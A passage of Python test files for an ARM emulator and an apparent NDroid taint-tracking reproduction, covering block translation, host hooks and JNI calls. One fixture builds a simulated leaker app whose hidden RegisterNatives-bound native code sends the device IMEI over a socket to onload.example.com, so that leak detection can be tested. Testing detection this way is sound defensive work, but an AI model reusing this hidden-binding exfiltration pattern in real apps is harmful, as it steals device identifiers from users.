# ---------------------------------------------------------------------------
# block formation and reuse

SUM_LOOP = """
main:
    mov r0, #0
    mov r1, #0
loop:
    cmp r1, #10
    bge done
    add r0, r0, r1
    add r1, r1, #1
    b loop
done:
    bx lr
"""


def test_blocks_translated_once_and_reused():
    emu, program = make_emu(SUM_LOOP)
    assert emu.call(program.entry("main")) == 45
    stats = emu.translation_stats()
    assert stats["blocks"] >= 2
    assert stats["invalidations"] == 0
    translations_after_first = stats["translations"]
    # A second call dispatches entirely from the cache.
    assert emu.call(program.entry("main")) == 45
    assert emu.translation_stats()["translations"] == translations_after_first


def test_conditional_branch_exercises_both_edges():
    # The loop takes the backward branch 10 times and falls through once,
    # so both the taken and fall-through successors of the cmp/bge block
    # are dispatched (and chained).
    for use_tb in (True, False):
        emu, program = make_emu(SUM_LOOP, use_tb=use_tb)
        assert emu.call(program.entry("main")) == 45
    # Chained successors exist on at least one block after the run.
    emu, program = make_emu(SUM_LOOP)
    emu.call(program.entry("main"))
    blocks = list(emu._tb_cache._blocks.values())
    assert any(tb.succ_taken is not None or tb.succ_fall is not None
               for tb in blocks)


def test_instruction_count_matches_single_step():
    emu_tb, program = make_emu(SUM_LOOP, use_tb=True)
    emu_ss, _ = make_emu(SUM_LOOP, use_tb=False)
    emu_tb.call(program.entry("main"))
    emu_ss.call(program.entry("main"))
    assert emu_tb.instruction_count == emu_ss.instruction_count


# ---------------------------------------------------------------------------
# Thumb/ARM interworking

INTERWORK = """
main:
    push {lr}
    ldr r1, =thumb_fn
    orr r1, r1, #1       ; interworking address: bit 0 selects Thumb
    mov r0, #5
    blx r1
    pop {pc}

.thumb
thumb_fn:
    add r0, r0, #7
    bx lr
"""


@pytest.mark.parametrize("use_tb", [True, False])
def test_bx_interworking_thumb_and_back(use_tb):
    emu, program = make_emu(INTERWORK, use_tb=use_tb)
    # The literal pool carries the thumb bit, so blx switches modes.
    assert emu.call(program.entry("main")) == 12
    assert not emu.cpu.thumb  # returned to ARM


def test_thumb_and_arm_blocks_keyed_separately():
    emu, program = make_emu(INTERWORK)
    emu.call(program.entry("main"))
    keys = set(emu._tb_cache._blocks)
    assert any(thumb for _, thumb in keys)
    assert any(not thumb for _, thumb in keys)


# ---------------------------------------------------------------------------
# host addresses

def test_host_function_called_from_translated_code():
    source = """
    main:
        push {lr}
        mov r0, #3
        bl helper
        add r0, r0, #1
        pop {pc}
    """
    emu = Emulator()
    helper_addr = CODE_BASE + 0x1_0000
    emu.register_host_function(helper_addr, "helper",
                               lambda ctx: ctx.arg(0) * 10)
    program = assemble(source, base=CODE_BASE,
                       externs={"helper": helper_addr})
    emu.load(CODE_BASE, program.code)
    emu.cpu.sp = 0x0800_0000
    assert emu.call(program.entry("main")) == 31
    assert emu.host_call_count == 1


def test_straight_line_flow_into_host_address_cuts_block():
    # Code laid out immediately before a host address: translation must
    # stop at the host boundary and dispatch it, not decode through it.
    source = """
    main:
        mov r0, #2
        add r0, r0, #3
    """
    emu = Emulator()
    program = assemble(source, base=CODE_BASE)
    host_addr = CODE_BASE + len(program.code)
    calls = []

    def host(ctx):
        calls.append(ctx.arg(0))
        ctx.emu.cpu.pc = ctx.emu.cpu.lr & ~1  # return manually
        return ctx.arg(0)

    emu.register_host_function(host_addr, "tail", host)
    emu.load(CODE_BASE, program.code)
    emu.cpu.sp = 0x0800_0000
    emu.call(program.entry("main"))
    assert calls == [5]


def test_late_host_registration_invalidates_translated_page():
    source = """
    main:
        mov r0, #1
        b second
    second:
        add r0, r0, #1
        bx lr
    """
    emu, program = make_emu(source)
    assert emu.call(program.entry("main")) == 2
    # Now claim `second`'s address as a host function: previously
    # translated blocks (and the chain into them) must not be reused.
    second = program.entry("second")
    emu.register_host_function(second, "second", lambda ctx: 99)
    assert emu.call(program.entry("main")) == 99


# ---------------------------------------------------------------------------
# stop() and mode switches between blocks

def test_stop_from_hook_interrupts_between_blocks():
    source = """
    main:
        mov r0, #0
    loop:
        add r0, r0, #1
        bl tick
        b loop
    tick:
        bx lr
    """
    emu, program = make_emu(source)
    seen = []

    def on_tick(e):
        seen.append(e.cpu.regs[0])
        if len(seen) >= 5:
            e.stop()

    emu.add_entry_hook(program.entry("tick"), on_tick)
    emu.call(program.entry("main"))
    assert seen == [1, 2, 3, 4, 5]


def test_tracer_attached_mid_run_switches_to_slow_path():
    source = """
    main:
        push {lr}
        mov r0, #0
    loop:
        add r0, r0, #1
        bl tick
        cmp r0, #20
        blt loop
        pop {pc}
    tick:
        bx lr
    """
    emu, program = make_emu(source)
    traced = []

    def tracer(ir, e):
        traced.append(ir.mnemonic)

    def attach_once(e):
        if not traced:
            e.add_tracer(tracer)

    emu.add_entry_hook(program.entry("tick"), attach_once)
    emu.call(program.entry("main"))
    # Once the hook attached the tracer, every later instruction went
    # through the per-instruction path.
    assert len(traced) > 50


def test_runaway_loop_still_raises_budget_error():
    emu, program = make_emu("main:\n    b main\n")
    with pytest.raises(EmulationError):
        emu.call(program.entry("main"), max_steps=1000)


# ---------------------------------------------------------------------------
# self-modifying code / invalidation

PATCHABLE = """
main:
    mov r0, #1
    bx lr
"""


@pytest.mark.parametrize("use_tb", [True, False])
def test_self_modifying_write_retranslates(use_tb):
    emu, program = make_emu(PATCHABLE, use_tb=use_tb)
    main = program.entry("main")
    assert emu.call(main) == 1
    # Overwrite `mov r0, #1` with `mov r0, #42` through emulated memory
    # (the same write path guest stores use).
    patch = int.from_bytes(assemble("mov r0, #42", base=0).code[:4],
                           "little")
    emu.memory.write_u32(main & ~1, patch)
    assert emu.call(main) == 42


@pytest.mark.parametrize("use_tb", [True, False])
def test_guest_store_into_code_retranslates(use_tb):
    # The guest itself patches `victim` then re-executes it.
    source = """
    main:
        push {lr}
        bl victim
        mov r4, r0
        ldr r1, =0xE3A0002A      ; mov r0, #42
        ldr r2, =victim
        str r1, [r2]
        bl victim
        add r0, r0, r4
        pop {pc}
    victim:
        mov r0, #1
        bx lr
    """
    emu, program = make_emu(source, use_tb=use_tb)
    assert emu.call(program.entry("main")) == 43


def test_data_write_sharing_code_page_does_not_invalidate():
    source = """
    main:
        mov r0, #0
        mov r1, #0
        ldr r4, =buffer
    loop:
        cmp r1, #50
        bge done
        str r1, [r4]
        ldr r2, [r4]
        add r0, r0, r2
        add r1, r1, #1
        b loop
    done:
        bx lr
    buffer:
        .space 16
    """
    emu, program = make_emu(source)
    assert emu.call(program.entry("main")) == 1225
    assert emu.translation_stats()["invalidations"] == 0


def test_explicit_load_flushes_everything():
    emu, program = make_emu(PATCHABLE)
    main = program.entry("main")
    emu.call(main)
    assert emu.translation_stats()["blocks"] > 0
    emu.load(CODE_BASE, assemble("main:\n    mov r0, #7\n    bx lr\n",
                                 base=CODE_BASE).code)
    assert emu.translation_stats()["blocks"] == 0
    assert emu.call(main) == 7


# ---------------------------------------------------------------------------
# differential equivalence

MIXED = """
main:
    push {r4, r5, r6, lr}
    mov r0, #0
    mov r1, #0
    ldr r4, =data
loop:
    cmp r1, #37
    bge done
    add r0, r0, r1
    eor r0, r0, r1, lsl #2
    and r2, r1, #7
    str r0, [r4, r2, lsl #2]
    ldr r3, [r4, r2, lsl #2]
    orr r0, r0, r3, lsr #1
    subs r5, r1, #18
    rsblt r5, r5, #0
    add r0, r0, r5
    mul r6, r1, r1
    add r0, r0, r6, asr #3
    add r1, r1, #1
    b loop
done:
    ldr r1, =thumb_leaf
    orr r1, r1, #1
    blx r1
    pop {r4, r5, r6, pc}

.thumb
thumb_leaf:
    add r0, #9
    bx lr

.arm
data:
    .space 64
"""


def test_engines_bitwise_agree_on_mixed_program():
    results = {}
    for use_tb in (True, False):
        emu, program = make_emu(MIXED, use_tb=use_tb)
        value = emu.call(program.entry("main"))
        results[use_tb] = (
            value,
            emu.instruction_count,
            list(emu.cpu.regs[:15]),
            emu.cpu.flag_n, emu.cpu.flag_z, emu.cpu.flag_c, emu.cpu.flag_v,
            emu.memory.read_bytes(program.entry("data") & ~1, 64),
        )
    assert results[True] == results[False]
