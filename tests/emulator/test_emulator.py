"""Tests for the emulator's instrumentation surfaces."""

import pytest

from repro.common.errors import EmulationError
from repro.cpu.assembler import assemble
from repro.emulator import EXIT_ADDRESS, Emulator

CODE_BASE = 0x0001_0000
HOST_BASE = 0x4000_0000
STACK_TOP = 0x0800_0000


def make_emulator(source, externs=None):
    emu = Emulator()
    program = assemble(source, base=CODE_BASE, externs=externs)
    emu.load(CODE_BASE, program.code)
    emu.cpu.sp = STACK_TOP
    return emu, program


class TestHostFunctions:
    def test_host_function_called_via_blx(self):
        calls = []

        def host_add_ten(ctx):
            calls.append(ctx.arg(0))
            return ctx.arg(0) + 10

        emu, program = make_emulator("""
        main:
            push {lr}
            ldr r2, =0x40000000
            mov r0, #7
            blx r2
            pop {pc}
        """)
        emu.register_host_function(HOST_BASE, "add_ten", host_add_ten)
        result = emu.call(program.entry("main"))
        assert result == 17
        assert calls == [7]
        assert emu.host_call_count == 1

    def test_host_function_stack_args(self):
        def host_sum6(ctx):
            return sum(ctx.arg(i) for i in range(6))

        emu = Emulator()
        emu.cpu.sp = STACK_TOP
        emu.register_host_function(HOST_BASE, "sum6", host_sum6)
        result = emu.call(HOST_BASE, args=(1, 2, 3, 4, 5, 6))
        assert result == 21

    def test_cstring_arg(self):
        seen = []

        def host_puts(ctx):
            seen.append(ctx.cstring_arg(0))
            return 0

        emu, program = make_emulator("""
        main:
            push {lr}
            ldr r0, =message
            ldr r2, =0x40000000
            blx r2
            pop {pc}
        message:
            .asciz "hello world"
        """)
        emu.register_host_function(HOST_BASE, "puts", host_puts)
        emu.call(program.entry("main"))
        assert seen == ["hello world"]

    def test_duplicate_registration_rejected(self):
        emu = Emulator()
        emu.register_host_function(HOST_BASE, "f", lambda ctx: 0)
        with pytest.raises(EmulationError):
            emu.register_host_function(HOST_BASE, "g", lambda ctx: 0)


class TestHooks:
    def test_entry_hook_fires_on_emulated_function(self):
        fired = []
        emu, program = make_emulator("""
        main:
            push {lr}
            bl helper
            pop {pc}
        helper:
            mov r0, #1
            bx lr
        """)
        helper = program.address_of("helper")
        emu.add_entry_hook(helper, lambda e: fired.append(e.cpu.pc))
        emu.call(program.entry("main"))
        assert fired == [helper]

    def test_exit_hook_fires_on_return(self):
        order = []
        emu, program = make_emulator("""
        main:
            push {lr}
            bl helper
            pop {pc}
        helper:
            mov r0, #1
            bx lr
        """)
        helper = program.address_of("helper")
        emu.add_entry_hook(helper, lambda e: order.append("entry"))
        emu.add_exit_hook(helper, lambda e: order.append("exit"))
        emu.call(program.entry("main"))
        assert order == ["entry", "exit"]

    def test_entry_hook_on_host_function(self):
        order = []
        emu = Emulator()
        emu.cpu.sp = STACK_TOP
        emu.register_host_function(HOST_BASE, "f",
                                   lambda ctx: order.append("body") or 5)
        emu.add_entry_hook(HOST_BASE, lambda e: order.append("hook"))
        result = emu.call(HOST_BASE)
        assert order == ["hook", "body"]

    def test_branch_listener_sees_call_chain(self):
        branches = []
        emu, program = make_emulator("""
        main:
            push {lr}
            bl helper
            pop {pc}
        helper:
            bx lr
        """)
        emu.add_branch_listener(lambda f, t, e: branches.append((f, t)))
        emu.call(program.entry("main"))
        helper = program.address_of("helper")
        main = program.address_of("main")
        # main was entered, helper was called, helper returned, main returned.
        assert (EXIT_ADDRESS, main) in branches
        assert any(t == helper for f, t in branches)
        assert branches[-1][1] == EXIT_ADDRESS

    def test_tracer_sees_each_instruction(self):
        mnemonics = []
        emu, program = make_emulator("""
        main:
            mov r0, #1
            add r0, r0, #2
            bx lr
        """)
        emu.add_tracer(lambda ir, e: mnemonics.append(ir.mnemonic))
        emu.call(program.entry("main"))
        assert mnemonics == ["mov", "add", "bx"]

    def test_remove_tracer(self):
        count = []
        tracer = lambda ir, e: count.append(1)
        emu, program = make_emulator("main: bx lr")
        emu.add_tracer(tracer)
        emu.remove_tracer(tracer)
        emu.call(program.entry("main"))
        assert count == []


class TestRunLoop:
    def test_runaway_loop_detected(self):
        emu, program = make_emulator("main: b main")
        with pytest.raises(EmulationError):
            emu.call(program.entry("main"), max_steps=1000)

    def test_instruction_count(self):
        emu, program = make_emulator("""
        main:
            mov r0, #0
            add r0, r0, #1
            add r0, r0, #1
            bx lr
        """)
        emu.call(program.entry("main"))
        assert emu.instruction_count == 4

    def test_decode_cache_reused_across_loop_iterations(self):
        emu, program = make_emulator("""
        main:
            mov r1, #50
        loop:
            subs r1, r1, #1
            bne loop
            bx lr
        """)
        emu.call(program.entry("main"))
        assert emu.instruction_count > 50
        assert emu.decode_count <= 6

    def test_svc_dispatches_to_syscall_handler(self):
        seen = []
        emu, program = make_emulator("""
        main:
            mov r7, #42
            svc #0
            bx lr
        """)
        emu.syscall_handler = lambda imm, e: seen.append(
            (imm, e.cpu.regs[7]))
        emu.call(program.entry("main"))
        assert seen == [(0, 42)]

    def test_svc_without_handler_raises(self):
        emu, program = make_emulator("main: svc #0\n bx lr")
        with pytest.raises(EmulationError):
            emu.call(program.entry("main"))

    def test_stop(self):
        emu, program = make_emulator("main: b main")
        emu.add_tracer(lambda ir, e: e.stop() if e.instruction_count > 10 else None)
        emu.cpu.pc = program.address_of("main")
        emu.cpu.lr = EXIT_ADDRESS
        emu.run(max_steps=100000)
        assert emu.instruction_count <= 12
