"""Nested emu.call semantics: per-depth sentinels and hook pairing.

Regression tests for the bug where an inner function's return fired the
outer function's pending exit hooks (both targeted EXIT_ADDRESS), letting
the outer host impl overwrite what the exit hook had written.
"""

from repro.cpu.assembler import assemble
from repro.emulator import EXIT_ADDRESS, Emulator

CODE = 0x0001_0000
HOST = 0x4000_0000


def test_nested_calls_use_distinct_sentinels():
    emu = Emulator()
    emu.cpu.sp = 0x0800_0000
    program = assemble("inner: mov r0, #7\n bx lr", base=CODE)
    emu.load(CODE, program.code)
    seen_sentinels = []

    def outer(ctx):
        seen_sentinels.append(ctx.cpu.lr)
        result = ctx.emu.call(program.entry("inner"))
        return result + 1

    emu.register_host_function(HOST, "outer", outer)
    assert emu.call(HOST) == 8
    # The outer call used the base sentinel; the inner one a shifted one.
    assert seen_sentinels == [EXIT_ADDRESS]


def test_exit_hook_order_outer_fires_after_inner_work():
    """The outer function's exit hook must observe the inner call's
    side effects, and must fire exactly once."""
    emu = Emulator()
    emu.cpu.sp = 0x0800_0000
    program = assemble("inner: mov r0, #5\n bx lr", base=CODE)
    emu.load(CODE, program.code)
    order = []

    def outer(ctx):
        order.append("outer-body-start")
        ctx.emu.call(program.entry("inner"))
        order.append("outer-body-end")
        return 0

    emu.register_host_function(HOST, "outer", outer)
    emu.add_exit_hook(HOST, lambda e: order.append("outer-exit-hook"))
    emu.call(HOST)
    assert order == ["outer-body-start", "outer-body-end",
                     "outer-exit-hook"]


def test_exit_hook_value_survives_host_impl():
    """An exit hook's memory write lands after the impl's writes."""
    emu = Emulator()
    emu.cpu.sp = 0x0800_0000
    program = assemble("inner: bx lr", base=CODE)
    emu.load(CODE, program.code)
    SLOT = 0x9000

    def outer(ctx):
        ctx.emu.call(program.entry("inner"))   # nested emulation
        ctx.memory.write_u32(SLOT, 1)          # impl writes last...
        return 0

    emu.register_host_function(HOST, "outer", outer)
    emu.add_exit_hook(HOST, lambda e: e.memory.write_u32(SLOT, 2))
    emu.call(HOST)
    # ...but the exit hook overrides it (the NDroid return-taint pattern).
    assert emu.memory.read_u32(SLOT) == 2


def test_deep_nesting():
    emu = Emulator()
    emu.cpu.sp = 0x0800_0000
    program = assemble("leaf: add r0, r0, #1\n bx lr", base=CODE)
    emu.load(CODE, program.code)
    depth = 6

    def make_layer(level, next_address):
        def layer(ctx):
            value = ctx.emu.call(next_address, args=(ctx.arg(0),))
            return value + 1
        return layer

    next_address = program.entry("leaf")
    for level in range(depth):
        address = HOST + 16 * level
        emu.register_host_function(address, f"layer{level}",
                                   make_layer(level, next_address))
        next_address = address
    assert emu.call(next_address, args=(0,)) == depth + 1
