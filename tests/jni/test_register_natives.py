"""RegisterNatives / JNI_OnLoad binding path.

Malware-style apps hide native entry points by binding through
``RegisterNatives`` in ``JNI_OnLoad`` instead of exporting ``Java_*``
symbols; NDroid's tracking must work identically (the hooks key off
``dvmCallJNIMethod`` and the method's bound address, not the symbol).
"""

import pytest

from repro.common.taint import TAINT_IMEI
from repro.core import NDroid
from repro.dalvik import ClassDef, MethodBuilder
from repro.framework import AndroidPlatform, Apk
from repro.jni.slots import jni_offset


def build_onload_app() -> Apk:
    """A case-2 leaker whose native method is bound via RegisterNatives."""
    cls = ClassDef("Lcom/onload/App;")
    cls.add_method(MethodBuilder(cls.name, "beam", "VL", static=True,
                                 native=True).build())
    main = MethodBuilder(cls.name, "main", "V", static=True, registers=3)
    main.const_string(0, "libonload.so")
    main.invoke_static("Ljava/lang/System;->loadLibrary", 0)
    main.invoke_static("Landroid/telephony/TelephonyManager;->getDeviceId")
    main.move_result_object(1)
    main.invoke_static(f"{cls.name}->beam", 1)
    main.ret_void()
    cls.add_method(main.build())

    native = f"""
    JNI_OnLoad:                       ; (env, reserved)
        push {{r4, lr}}
        mov r4, r0
        ; jclass = FindClass(env, "com/onload/App")
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('FindClass')}]
        ldr r1, =cls_name
        blx ip
        mov r1, r0
        ; RegisterNatives(env, jclass, table, 1)
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('RegisterNatives')}]
        mov r0, r4
        ldr r2, =method_table
        mov r3, #1
        blx ip
        mov r0, #0                    ; JNI_VERSION placeholder
        pop {{r4, pc}}

    hidden_beam:                      ; the unexported implementation
        push {{r4, r5, r6, lr}}
        mov r4, r0
        ldr ip, [r4]
        ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
        mov r1, r2
        mov r2, #0
        blx ip
        mov r5, r0
        mov r0, #2
        mov r1, #1
        ldr ip, =socket
        blx ip
        mov r6, r0
        ldr r1, =dest
        ldr ip, =connect
        blx ip
        mov r0, r5
        ldr ip, =strlen
        blx ip
        mov r2, r0
        mov r0, r6
        mov r1, r5
        mov r3, #0
        ldr ip, =send
        blx ip
        pop {{r4, r5, r6, pc}}

    cls_name:
        .asciz "com/onload/App"
    m_name:
        .asciz "beam"
    m_sig:
        .asciz "(Ljava/lang/String;)V"
    dest:
        .asciz "onload.example.com:80"
    .align 2
    method_table:
        .word m_name
        .word m_sig
        .word hidden_beam
    """
    return Apk(package="com.onload.app", classes=[cls],
               native_libraries={"libonload.so": native},
               load_library_calls=["libonload.so"])


@pytest.fixture
def platform():
    platform = AndroidPlatform()
    NDroid.attach(platform)
    return platform


def test_jni_onload_runs_and_binds(platform):
    apk = build_onload_app()
    platform.install(apk)
    platform.run_app(apk)
    method = platform.vm.resolve_method("Lcom/onload/App;->beam")
    assert method.native_address != 0
    assert platform.event_log.first("RegisterNatives") is not None
    assert platform.event_log.first("JNI_OnLoad") is not None


def test_leak_through_registered_native_detected(platform):
    apk = build_onload_app()
    platform.install(apk)
    platform.run_app(apk)
    leaks = [r for r in platform.leaks.records if r.taint & TAINT_IMEI]
    assert leaks
    assert any("onload.example.com" in r.destination for r in leaks)
    sent = platform.kernel.network.transmissions_to("onload.example.com")
    assert sent[0].payload == platform.device.imei.encode()


def test_register_natives_unknown_method_fails():
    platform = AndroidPlatform()
    jni = platform.jni
    platform.vm.register_class(ClassDef("LX;"))
    cls_handle = jni.class_handle("LX;")
    memory = platform.memory
    memory.write_cstring(0x9000, "nope")
    memory.write_u32(0x9100, 0x9000)   # name
    memory.write_u32(0x9104, 0)        # sig
    memory.write_u32(0x9108, 0x6000_0000)
    result = platform.emu.call(jni.symbols["RegisterNatives"],
                               args=(jni.env_pointer(), cls_handle,
                                     0x9100, 1))
    assert result == 0xFFFF_FFFF


def test_unregister_natives(platform):
    apk = build_onload_app()
    platform.install(apk)
    platform.run_app(apk)
    jni = platform.jni
    cls_handle = jni.class_handle("Lcom/onload/App;")
    platform.emu.call(jni.symbols["UnregisterNatives"],
                      args=(jni.env_pointer(), cls_handle))
    method = platform.vm.resolve_method("Lcom/onload/App;->beam")
    assert method.native_address == 0
