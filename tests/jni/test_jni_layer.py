"""JNI layer tests: real native ARM code crossing the boundary both ways."""

import pytest

from repro.common.taint import TAINT_CLEAR, TAINT_IMEI, TAINT_SMS
from repro.cpu.assembler import assemble
from repro.dalvik import ClassDef, DalvikVM, MethodBuilder
from repro.dalvik.heap import Slot
from repro.dalvik.interpreter import PendingException
from repro.emulator import Emulator
from repro.jni import JniLayer, jni_offset
from repro.kernel import Kernel
from repro.libc import CLibrary

NATIVE_BASE = 0x6000_0000
STACK_TOP = 0x0800_0000


class Platform:
    """Minimal platform: emulator + kernel + libc + VM + JNI."""

    def __init__(self):
        self.emu = Emulator()
        self.kernel = Kernel(self.emu.memory, event_log=self.emu.event_log)
        self.kernel.spawn_process("com.example.app")
        self.emu.syscall_handler = self.kernel.handle_svc
        self.libc = CLibrary(self.emu, self.kernel)
        self.vm = DalvikVM(self.emu.memory, event_log=self.emu.event_log)
        self.jni = JniLayer(self.emu, self.vm)
        self.emu.cpu.sp = STACK_TOP

    def load_native(self, source, name="libtest.so"):
        program = assemble(source, base=NATIVE_BASE, externs=self.libc.symbols)
        self.emu.load(NATIVE_BASE, program.code)
        self.emu.memory_map.map(NATIVE_BASE, max(len(program.code), 0x1000),
                                name, third_party=True)
        return program

    def bind_native(self, method, program, symbol):
        method.native_address = program.entry(symbol)


@pytest.fixture
def platform():
    return Platform()


class TestJavaToNative:
    def test_native_int_roundtrip(self, platform):
        cls = ClassDef("LTest;")
        platform.vm.register_class(cls)
        native = cls.add_method(
            MethodBuilder("LTest;", "addOne", "II", static=True,
                          native=True).build())
        program = platform.load_native("""
        add_one:            ; r0=env, r1=jclass, r2=x
            add r0, r2, #1
            bx lr
        """)
        platform.bind_native(native, program, "add_one")
        result = platform.vm.call_main("LTest;->addOne", [Slot(41)])
        assert result.value == 42

    def test_taintdroid_return_policy(self, platform):
        """Return value tainted iff any parameter was tainted."""
        cls = ClassDef("LTest;")
        platform.vm.register_class(cls)
        native = cls.add_method(
            MethodBuilder("LTest;", "pass_", "II", static=True,
                          native=True).build())
        program = platform.load_native("pass_impl: mov r0, #7\n bx lr")
        platform.bind_native(native, program, "pass_impl")
        clean = platform.vm.call_main("LTest;->pass_", [Slot(1)])
        assert clean.taint == TAINT_CLEAR
        tainted = platform.vm.call_main("LTest;->pass_",
                                        [Slot(1, TAINT_IMEI)])
        assert tainted.taint == TAINT_IMEI

    def test_param_taints_visible_at_args_area(self, platform):
        """dvmCallJNIMethod's hook surface: interleaved taints in memory."""
        seen = {}
        cls = ClassDef("LTest;")
        platform.vm.register_class(cls)
        native = cls.add_method(
            MethodBuilder("LTest;", "probe", "III", static=True,
                          native=True).build())
        program = platform.load_native("probe: mov r0, #0\n bx lr")
        platform.bind_native(native, program, "probe")

        def entry_hook(emu):
            args_ptr = emu.cpu.regs[0]
            from repro.dalvik.stack import DvmStack
            seen["arg0"] = DvmStack.read_native_arg(emu.memory, args_ptr, 0)
            seen["arg1"] = DvmStack.read_native_arg(emu.memory, args_ptr, 1)

        platform.emu.add_entry_hook(
            platform.jni.symbols["dvmCallJNIMethod"], entry_hook)
        platform.vm.call_main("LTest;->probe",
                              [Slot(5, TAINT_SMS), Slot(6, TAINT_CLEAR)])
        assert seen["arg0"] == (5, TAINT_SMS)
        assert seen["arg1"] == (6, TAINT_CLEAR)

    def test_string_param_via_get_string_utf_chars(self, platform):
        cls = ClassDef("LTest;")
        platform.vm.register_class(cls)
        native = cls.add_method(
            MethodBuilder("LTest;", "strlenNative", "IL", static=True,
                          native=True).build())
        source = f"""
        strlen_native:       ; r0=env, r1=jclass, r2=jstring
            push {{r4, r5, lr}}
            mov r4, r0
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('GetStringUTFChars')}]
            mov r1, r2
            mov r2, #0
            blx ip            ; r0 = char*
            ldr r5, =strlen
            blx r5
            pop {{r4, r5, pc}}
        """
        program = platform.load_native(source)
        platform.bind_native(native, program, "strlen_native")
        text = platform.vm.heap.alloc_string("hello jni")
        result = platform.vm.call_main("LTest;->strlenNative",
                                       [Slot(text.address, 0, True)])
        assert result.value == 9

    def test_native_returns_new_string(self, platform):
        cls = ClassDef("LTest;")
        platform.vm.register_class(cls)
        native = cls.add_method(
            MethodBuilder("LTest;", "makeString", "L", static=True,
                          native=True).build())
        source = f"""
        make_string:
            push {{r4, lr}}
            mov r4, r0
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('NewStringUTF')}]
            ldr r1, =text
            blx ip
            pop {{r4, pc}}
        text:
            .asciz "from native"
        """
        program = platform.load_native(source)
        platform.bind_native(native, program, "make_string")
        result = platform.vm.call_main("LTest;->makeString")
        assert result.is_ref
        assert platform.vm.string_at(result.value) == "from native"

    def test_unbound_native_method_raises(self, platform):
        cls = ClassDef("LTest;")
        platform.vm.register_class(cls)
        cls.add_method(MethodBuilder("LTest;", "missing", "V", static=True,
                                     native=True).build())
        from repro.common.errors import DalvikError
        with pytest.raises(DalvikError, match="UnsatisfiedLinkError"):
            platform.vm.call_main("LTest;->missing")


class TestNativeToJava:
    def _app_with_callback(self, platform, native_source):
        cls = ClassDef("LTest;")
        platform.vm.register_class(cls)
        # Java callback: int triple(int x) { return 3 * x; }
        builder = MethodBuilder("LTest;", "triple", "II", static=True,
                                registers=3)
        builder.const(0, 3)
        from repro.dalvik.instructions import Op
        builder.binop(Op.MUL_INT, 0, 0, 2)
        builder.ret(0)
        cls.add_method(builder.build())
        native = cls.add_method(
            MethodBuilder("LTest;", "entry", "I", static=True,
                          native=True).build())
        program = platform.load_native(native_source)
        platform.bind_native(native, program, "entry_impl")
        return cls

    def test_call_static_int_method(self, platform):
        source = f"""
        entry_impl:          ; r0=env, r1=jclass
            push {{r4, r5, r6, lr}}
            mov r4, r0
            mov r5, r1
            ; methodID = GetStaticMethodID(env, jclass, "triple", sig)
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('GetStaticMethodID')}]
            ldr r2, =name
            mov r3, #0
            blx ip
            mov r6, r0        ; methodID
            ; CallStaticIntMethod(env, jclass, mid, 14)
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('CallStaticIntMethod')}]
            mov r0, r4
            mov r1, r5
            mov r2, r6
            mov r3, #14
            blx ip
            pop {{r4, r5, r6, pc}}
        name:
            .asciz "triple"
        """
        self._app_with_callback(platform, source)
        result = platform.vm.call_main("LTest;->entry")
        assert result.value == 42

    def test_call_static_method_a_variant(self, platform):
        source = f"""
        entry_impl:
            push {{r4, r5, r6, lr}}
            mov r4, r0
            mov r5, r1
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('GetStaticMethodID')}]
            ldr r2, =name
            mov r3, #0
            blx ip
            mov r6, r0
            ; jvalue array with one element = 10
            ldr r3, =jvalues
            mov r2, #10
            str r2, [r3]
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('CallStaticIntMethodA')}]
            mov r0, r4
            mov r1, r5
            mov r2, r6
            blx ip
            pop {{r4, r5, r6, pc}}
        name:
            .asciz "triple"
        .align 2
        jvalues:
            .word 0
        """
        self._app_with_callback(platform, source)
        assert platform.vm.call_main("LTest;->entry").value == 30

    def test_dvm_call_chain_events(self, platform):
        """CallStaticIntMethod must route through dvmCallMethodV and
        dvmInterpret (Table II)."""
        source = f"""
        entry_impl:
            push {{r4, r5, r6, lr}}
            mov r4, r0
            mov r5, r1
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('GetStaticMethodID')}]
            ldr r2, =name
            mov r3, #0
            blx ip
            mov r6, r0
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('CallStaticIntMethod')}]
            mov r0, r4
            mov r1, r5
            mov r2, r6
            mov r3, #2
            blx ip
            pop {{r4, r5, r6, pc}}
        name:
            .asciz "triple"
        """
        self._app_with_callback(platform, source)
        platform.vm.call_main("LTest;->entry")
        kinds = platform.vm.event_log.kinds()
        assert "dvmCallMethodV" in kinds
        assert "dvmInterpret" in kinds
        assert kinds.index("dvmCallMethodV") < kinds.index("dvmInterpret")

    def test_interpret_frame_address_exposed(self, platform):
        """The dvmInterpret event carries the real frame address (Fig. 9)."""
        source = f"""
        entry_impl:
            push {{r4, r5, r6, lr}}
            mov r4, r0
            mov r5, r1
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('GetStaticMethodID')}]
            ldr r2, =name
            mov r3, #0
            blx ip
            mov r6, r0
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('CallStaticIntMethod')}]
            mov r0, r4
            mov r1, r5
            mov r2, r6
            mov r3, #1
            blx ip
            pop {{r4, r5, r6, pc}}
        name:
            .asciz "triple"
        """
        self._app_with_callback(platform, source)
        platform.vm.call_main("LTest;->entry")
        event = platform.vm.event_log.last("dvmInterpret")
        frame_address = event.data["frame"]
        from repro.dalvik.stack import DVM_STACK_BASE, DVM_STACK_SIZE
        assert DVM_STACK_BASE - DVM_STACK_SIZE <= frame_address < DVM_STACK_BASE


class TestFieldsAndArrays:
    def test_native_field_get_set(self, platform):
        cls = ClassDef("LTest;")
        cls.add_instance_field("value", "I")
        platform.vm.register_class(cls)
        native = cls.add_method(
            MethodBuilder("LTest;", "bump", "IL", static=True,
                          native=True).build())
        source = f"""
        bump_impl:            ; r2 = obj iref
            push {{r4, r5, r6, lr}}
            mov r4, r0
            mov r5, r2
            ; fid = GetFieldID(env, GetObjectClass(env, obj), "value", 0)
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('GetObjectClass')}]
            mov r1, r5
            blx ip
            mov r1, r0        ; jclass
            ldr ip, [r4]
            ldr ip, [ip, #{jni_offset('GetFieldID')}]
            mov r0, r4
            ldr r2, =fname
            mov r3, #0
            blx ip
            mov r6, r0        ; fieldID
